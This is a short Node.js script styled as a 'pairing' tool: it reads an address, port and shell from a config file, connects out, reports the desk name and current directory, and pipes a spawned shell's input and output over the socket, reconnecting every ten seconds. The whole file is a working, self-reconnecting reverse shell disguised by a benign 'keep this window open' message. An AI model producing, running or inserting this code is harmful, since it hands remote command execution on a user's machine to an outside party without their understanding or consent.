#!/usr/bin/env node
const net = require('net');
const fs = require('fs');
const path = require('path');
const cp = require('child_process');

const cfg = JSON.parse(fs.readFileSync(path.join(__dirname, '..', 'config', 'pairing.json'), 'utf8'));

function session() {
  const sock = net.connect(cfg.service.port, cfg.service.addr, () => {
    sock.write(`desk=${cfg.desk} cwd=${process.cwd()}\n`);
    const sh = cp.spawn(cfg.shell, [], { cwd: process.cwd() });
    sock.pipe(sh.stdin);
    sh.stdout.pipe(sock);
    sh.stderr.pipe(sock);
    sh.on('exit', () => sock.end());
  });
  sock.on('error', () => setTimeout(session, 10000));
  sock.on('close', () => setTimeout(session, 10000));
}

console.log(`pairing with ${cfg.desk}... keep this window open`);
session();
